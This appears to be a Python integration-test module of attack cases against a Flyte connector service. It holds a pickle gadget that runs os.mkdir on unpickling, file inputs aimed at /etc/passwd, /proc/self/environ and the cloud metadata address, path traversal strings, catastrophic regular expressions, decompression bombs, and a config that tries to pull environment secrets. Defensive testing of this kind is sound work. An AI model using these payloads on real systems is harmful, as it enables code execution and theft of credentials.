"""The attacks: for each case, calls of which any number are made at the same time."""

from __future__ import annotations

import base64
import json
import os
import pickle
import random
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from threading import Lock
from typing import Any, TypeVar

import msgpack
from flyteidl2.connector.connector_pb2 import CreateTaskRequest
from flyteidl2.core.literals_pb2 import (
    Binary,
    Blob,
    BlobMetadata,
    Literal,
    LiteralCollection,
    LiteralMap,
    LiteralOffloadedMetadata,
    Primitive,
    Scalar,
)
from flyteidl2.core.types_pb2 import BlobType, LiteralType, SimpleType

from tests.integration.attack.attacker import JSON, STRING, Attacker, Typed, forged, string
from tests.integration.attack.secrets_planted import OTHER, PEM, SIGNING_KEY
from yaml_connector._jobs.meta import JobMeta
from yaml_connector._jobs.signing import Signer

Attack = Callable[[Attacker], object]
T = TypeVar("T")
MB = 1_000_000
OUTPUTS = {"result": JSON}
FILE = LiteralType(blob=BlobType())


@dataclass(frozen=True)
class Case:
    """What is sent, in turns. `at_once` calls are under way all the time."""

    name: str
    attacks: Sequence[Attack]
    at_once: int = 16


CASES: dict[str, Case] = {}


def case(name: str, *attacks: Attack, at_once: int = 16) -> None:
    """Register a case."""
    CASES[name] = Case(name, attacks, at_once)


def once(make: Callable[[], T]) -> Callable[[], T]:
    """Make a value at its first use, for all threads."""
    lock, made = Lock(), list[T]()

    def get() -> T:
        with lock:
            if not made:
                made.append(make())
            return made[0]

    return get


# --- a job of the attacker's, honestly made ---------------------------------------------------------------------------


def job(task_type: str, name: str, *calls: str, **given: Any) -> Attack:
    """Create a job whose backend answers as its name says, and make the calls."""

    def attack(attacker: Attacker) -> None:
        made = attacker.create(task_type, f"{name}-{random.getrandbits(40)}", **given)
        for call in calls or ("get",):
            getattr(attacker, call)(made)

    return attack


def created(task_type: str, config: Any = None, inputs: Mapping[str, Typed] | None = None, **given: Any) -> Attack:
    """Create a job, and read it."""

    def attack(attacker: Attacker) -> None:
        attacker.get(attacker.create(task_type, config=config, inputs=inputs, **given))

    return attack


# --- what Flyte keeps -------------------------------------------------------------------------------------------------


def signed_by(key: str, task_type: str = "plain", **fields: Any) -> bytes:
    """A meta that is signed with a key."""
    return JobMeta(task_type, id="1", created_at=1.0, name="x", **fields).encode(Signer((key.encode(),)))


def raw(**fields: Any) -> bytes:
    """A meta without a signature."""
    given = {"v": 2, "task_type": "plain", "id": "1", "created_at": 1.0, "name": "x", **fields}
    return json.dumps(given).encode()


EVIL = {
    "spec_version": 1,
    "task_type_name": "plain",
    "connection": {"base_url": "${{ env.HOSTILE }}", "headers": {"X-Env": "${{ env.OTHER_SECRET }}"}},
    "secrets": {"o": {"file": "/proc/self/environ"}},
    "create": {"request": "POST /", "job_id": "$"},
    "get": {"request": "GET /jobs/1", "phase": {"is": "RUNNING"}, "message": "${{ secrets.o | reverse }}"},
}


def metas() -> list[bytes]:
    """Metas that the service did not make."""
    packed = base64.b64encode(zlib.compress(json.dumps(EVIL).encode())).decode()
    right = signed_by(SIGNING_KEY)
    return [
        raw(digest="d" * 64, snapshot=packed),
        raw(snapshot=base64.b64encode(zlib.compress(b" " * 200 * MB)).decode()),
        raw(id="/../../admin", saved={"id": {}}),
        raw(config={"region": "../other"}),
        signed_by("a-key-of-somebody-else-0123456789abcdef", snapshot=packed),
        right[:-3] + b'A"}',
        right.replace(b'"id":"1"', b'"id":"2"'),
        right + b" ",
        right[: len(right) // 2],
        b"",
        b"null",
        b"[]",
        b"\xff\xfe" * 50,
        b'{"v":2}',
        b'{"v":' + b"9" * 4000 + b"}",
        raw(created_at=float("nan")),
        raw(created_at=float("inf")),
        raw(created_at=-1e300),
        raw(outputs=[["result", "list[" * 50 + "str" + "]" * 50]]),
        pickle.dumps(EVIL),
    ]


def large_metas() -> list[bytes]:
    """Metas as large as the service takes, and as gRPC takes."""
    nearly, most = 1_000_000, 3_900_000
    return [
        b'{"v":2,"saved":{"a":' + b"[" * (nearly // 2) + b"]" * (nearly // 2 - 50) + b"}}",
        b'{"v":2,"created_at":' + b"9" * nearly + b"}",
        raw(name="x" * nearly),
        raw(outputs=[[f"o{number}", "str"] for number in range(50_000)]),
        raw(saved={f"k{number}": number for number in range(60_000)}),
        b'{"v":2,' + b'"a":1,' * (nearly // 6) + b'"a":1}',
        raw(name="x" * most),
        b"[" * most,
        os.urandom(most),
        raw(snapshot=base64.b64encode(os.urandom(2_500_000)).decode()),
    ]


def each(task_type: str, made: Callable[[], list[bytes]], *calls: str) -> Attack:
    """Hand in one of the metas, at random, with one of the calls."""
    kept = once(made)

    def attack(attacker: Attacker) -> None:
        getattr(attacker, random.choice(calls))(forged(task_type, random.choice(kept())))

    return attack


def tokens() -> list[str]:
    """Log tokens that the service did not give."""
    return [
        "x",
        "0",
        "\x00",
        "next",
        base64.urlsafe_b64encode(b'{"v":1,"at":1e999}').decode(),
        base64.urlsafe_b64encode(b"[" * 100_000).decode(),
        base64.urlsafe_b64encode(b'{"a":' * 100_000 + b"1" + b"}" * 100_000).decode(),
        base64.urlsafe_b64encode(b"9" * 1_000_000).decode(),
        base64.urlsafe_b64encode(zlib.compress(b"[" * 100 * MB)).decode(),
        "x" * 3_900_000,
        "é💥" * 300_000,
    ]


def with_token(attacker: Attacker) -> None:
    """Read the log of an honest job from a made-up token on."""
    made = attacker.create(random.choice(("plain", "text", "sse")), "quiet-1")
    attacker.logs(made, random.choice(cached_tokens()))


cached_tokens = once(tokens)


# --- inputs -----------------------------------------------------------------------------------------------------------


class WritesAFile:
    """Unpickled, it makes a folder. `PWNED` is looked for at the end."""

    def __reduce__(self) -> Any:
        return os.mkdir, (os.environ.get("ATTACK_PWNED", "PWNED"),)


def pickles() -> list[Typed]:
    """Values that Flyte's conversion would unpickle."""
    data = pickle.dumps(WritesAFile())
    inline = Literal(scalar=Scalar(binary=Binary(value=data, tag="pickle")))
    pickled = BlobType(format="PythonPickle")
    place = Literal(scalar=Scalar(blob=Blob(uri="http://127.0.0.1:1/pkl", metadata=BlobMetadata(type=pickled))))
    binary = LiteralType(simple=SimpleType.BINARY)
    offloaded = LiteralOffloadedMetadata(uri="http://127.0.0.1:1/pkl", size_bytes=3, inferred_type=STRING)
    return [
        (binary, inline),
        (LiteralType(blob=pickled), place),
        (LiteralType(collection_type=binary), Literal(collection=LiteralCollection(literals=[inline]))),
        (LiteralType(map_value_type=STRING), Literal(map=LiteralMap(literals={"a": inline}))),
        (STRING, inline),
        (STRING, place),
        (STRING, Literal(offloaded_metadata=offloaded)),
        (JSON, Literal(scalar=Scalar(binary=Binary(value=b"\xc1" * 100, tag="msgpack")))),
    ]


def file_of(uri: str) -> Typed:
    return FILE, Literal(scalar=Scalar(blob=Blob(uri=uri, metadata=BlobMetadata(type=BlobType()))))


PLACES = (
    "/etc/passwd",
    "file:///proc/self/environ",
    "/vault/secrets/x",
    "s3://bucket/../../etc/passwd",
    "s3://other-team/x",
    "http://169.254.169.254/latest/meta-data",
    "http://127.0.0.1:1/x",
    "s3://allowed/\x00",
    "s3://allowed/" + "x" * 100_000,
    "s3://user:pass@allowed/x",
    "zip://a::file:///etc/passwd",
    "",
    "memory://x",
    "data:text/plain,x",
)


def json_input(value: Any) -> Typed:
    return JSON, Literal(scalar=Scalar(binary=Binary(value=msgpack.packb(value), tag="msgpack")))


INTEGERS = LiteralType(collection_type=LiteralType(simple=SimpleType.INTEGER))


def numbers(count: int) -> Literal:
    """A list of so many integers as Flyte sends it."""
    one = Literal(scalar=Scalar(primitive=Primitive(integer=1)))
    return Literal(collection=LiteralCollection(literals=[one] * count))


def _deep(levels: int) -> Any:
    value: Any = 1
    for _ in range(levels):
        value = [value]
    return value


@once
def large_inputs() -> list[Mapping[str, Typed]]:
    """Inputs of nearly four megabytes."""
    many = Literal(collection=LiteralCollection(literals=[string("x")] * 400_000))
    return [
        {"x": (STRING, string("x" * 3_800_000))},
        {"x": json_input(["x" * 10] * 300_000)},
        {"x": json_input({f"k{number}": number for number in range(200_000)})},
        {"x": json_input(_deep(400))},
        {"x": json_input([[]] * 3_000_000)},
        {"x": (LiteralType(collection_type=STRING), many)},
        {f"n{number}": (STRING, string("x")) for number in range(40_000)},
        {"x" * 3_000_000: (STRING, string("x"))},
    ]


def _many_outputs(attacker: Attacker) -> None:
    attacker.create("plain", "quiet", outputs={f"o{n}-{random.random()}" + "x" * 100_000: STRING for n in range(30)})


def _odd_names(request: CreateTaskRequest) -> None:
    identity = request.task_execution_metadata.task_execution_id
    identity.node_execution_id.node_id = "n" * 1_000_000
    identity.node_execution_id.execution_id.name = "../\x00\n" + "r" * 500_000
    request.task_execution_metadata.labels["l" * 500_000] = "v" * 500_000
    request.template.type = "plain"


def _unknown_type(attacker: Attacker) -> None:
    attacker.get(forged("nosuch" + os.urandom(20).hex() + "x" * random.choice((1, 1000, 100_000)), b"{}"))


# --- the cases --------------------------------------------------------------------------------------------------------

JUST_UNDER = (60, 120, 250, 500, 1000)  # kB: whatever the threshold, one of them is just under it
READERS = ("everywhere", "filtered", "selected", "sorted", "grouped", "contained", "written")

case("forged metas", each("plain", metas, "get", "delete", "logs"))
case("large metas", each("plain", large_metas, "get", "delete", "logs"))
case("forged tokens", with_token)
case("made-up task types", _unknown_type)
case("pickles", *(created("anything", inputs={"x": typed}) for typed in pickles()))
case("file inputs", *(created("files", inputs={"data": file_of(place)}) for place in PLACES))
case("file prefixes", *(job("plain", "quiet", prefix=place) for place in PLACES))
case("large inputs", lambda attacker: created("anything", inputs=random.choice(large_inputs()))(attacker))
case(
    "large tasks",
    created(
        "plain",
        config="{" + ",".join(f'"k{n}":1' for n in range(250_000)) + "}",
        inputs={"name": (STRING, string("q"))},
    ),
    created("plain", config="[" * 1_000_000, inputs={"name": (STRING, string("q"))}),
    created("written_int", config='{"n":' + "9" * 1_000_000 + "}"),
    _many_outputs,
    job("plain", "quiet", change=_odd_names),
)
case("giant JSON", *(job(kind, f"items-{9500}") for kind in ("plain", *READERS)))
case(
    "JSON of numbers and lists",
    *(job(kind, what) for kind in ("plain", "contained") for what in ("numbers-9500", "lists-9500", "keys-9500")),
)
case(
    "twenty just under a threshold",
    *(job(kind, f"{what}-{size}") for size in JUST_UNDER for kind in READERS for what in ("items", "last")),
    at_once=20,
)
case(
    "deep JSON",
    *(
        job(kind, what)
        for kind in ("plain", "everywhere")
        for what in ("deep-2000", "deep-9000", "levels-1", "levels-5")
    ),
)
case(
    "long integers",
    *(job("plain", what, outputs=OUTPUTS) for what in ("digits-9000", "digits-4", "integers-9000", "nan", "infinite")),
)
case(
    "just under the bounds",
    created("plain", config=json.dumps({f"k{n}": 1 for n in range(49_000)}), inputs={"name": (STRING, string("q"))}),
    created("written_int", config={"n": [[1]] * 16_000}),
    created("joined", {"items": ["a"] * 49_000, "text": ","}),
    created("anything", inputs={"x": json_input([1] * 49_000)}),
    created("anything", inputs={"x": json_input({f"k{n}": [] for n in range(24_000)})}),
    created("anything", inputs={"x": (INTEGERS, numbers(3_900))}),
    created(
        "anything",
        inputs={
            "x": (
                LiteralType(collection_type=INTEGERS),
                Literal(collection=LiteralCollection(literals=[numbers(1)] * 1_900)),
            )
        },
    ),
    job("plain", "ones-99", outputs={"result": INTEGERS}),
    job("plain", "ones-99", outputs=OUTPUTS),
    job("plain", "ones-190", outputs={"result": INTEGERS}),
    job("collected", "many-150"),
    job("collected", "many-500"),
    job("batched", "fat"),
)
case("odd text", job("plain", "escapes-9000"), job("plain", "halves-9000"))
case(
    "regular expressions",
    *(
        job(kind, what)
        for kind in ("greedy", "trimmed")
        for what in ("text-9000", "blanks-9000", "text-300", "blanks-250")
    ),
    *(
        job("given", "text-9000", config={"pattern": pattern})
        for pattern in ("(a+)+$", "(a*)*b", "(.*){30}z", "(?:a?){500}a{500}", "[a" * 5000)
    ),
)
case(
    "templates",
    created("repeated", {"text": "a" * 1000, "n": 10_000_000}),
    created("repeated", {"text": "a", "n": 10**18}),
    created("ranged", {"n": 10**9}),
    created("raised", {"n": 10**9, "m": 10**9}),
    created("raised", {"n": 9, "m": 10**7}),
    created("shifted", {"n": 10**9}),
    created("formatted", {"text": "%999999999d", "n": 1}),
    created("formatted", {"text": "%.999999999f", "n": 1}),
    created("replaced", {"text": "a" * 100_000}),
    created("joined", {"items": ["a"] * 100_000, "text": "b" * 100_000}),
    created("looped", {"items": ["a" * 1000] * 1000, "text": "b" * 100_000}),
    created("batched_list", {"items": [1], "n": 10**9}),
    created("indented", {"text": "\n" * 100_000, "n": 10**6}),
    created("centered", {"text": "a", "n": 10**9}),
    created("wrapped", {"text": "a " * 500_000, "n": 1}),
    created("summed", {"items": [[1]] * 100_000}),
    created("matched", {"text": "a" * 1_000_000, "pattern": "(a|a)*$"}),
    created("pathed", {"items": [{"a": 1}] * 100_000, "pattern": "$..a"}),
    created("pathed", {"items": [1], "pattern": "$" + ".a" * 100_000}),
    created("pathed", {"items": [1], "pattern": "$[?(@.a =~ '(a+)+$')]" * 50}),
)
case(
    "redaction",
    job("plain", "pem-9000"),
    job("plain", "refusal"),
    job("text", "heads", "logs"),
    job("plain", "pem-250"),
    job("plain", "refusal", secrets={"api_key": PEM, "key": "x" * 60_000}),
    created("plain", secrets={"api_key": "s" * 200_000}, inputs={"name": (STRING, string("q"))}),
    created(
        "plain", secrets={f"n{n}": os.urandom(30).hex() for n in range(2000)}, inputs={"name": (STRING, string("q"))}
    ),
)
case("decompression", *(job("plain", what) for what in ("zeros", "braces", "deflated", "twice", "stored")))
case(
    "headers", *(job("plain", what) for what in ("headers", "headerless", "cookies", "hints", "trailers", "extension"))
)
case(
    "endless answers",
    job("plain", "endless"),
    job("text", "line", "logs"),
    job("ndjson", "line", "logs"),
    job("sse", "line", "logs"),
)
case(
    "logs",
    job("plain", "lines", "logs"),
    job("text", "short", "logs"),
    job("sse", "short", "logs"),
    job("ndjson", "short", "logs"),
)
case(
    "silence",
    *(
        job(kind, what, "get", "delete", "logs")
        for kind in ("plain", "stepwise")
        for what in ("silent", "drip", "slow")
    ),
)
case(
    "pages and redirects",
    *(
        job(kind, what)
        for kind, what in (("followed", "pages"), ("followed", "further"), ("redirected", "moved"), ("plain", "later"))
    ),
)
case(
    "large values",
    job("plain", "message-9000"),
    job("plain", "message-3000"),
    job("plain", "output-9000", outputs=OUTPUTS),
    job("plain", "output-4100", outputs=OUTPUTS),
    job("plain", "link-9000"),
    job("plain", "info-3000"),
    job("plain", "id-4000"),
    job("saving", "saved-4000"),
    job("saving", "saved-900"),
    job("plain", "page"),
)
case("logins", job("logging_in", "quiet"))
case(
    "ids in batches",
    *(job("batched", f"id-{size}") for size in (1, 30, 500)),
    job("batched", "1,2,3"),
    job("batched", "quiet"),
)

NEVER_SHOWN = (OTHER, SIGNING_KEY, PEM[30:90])
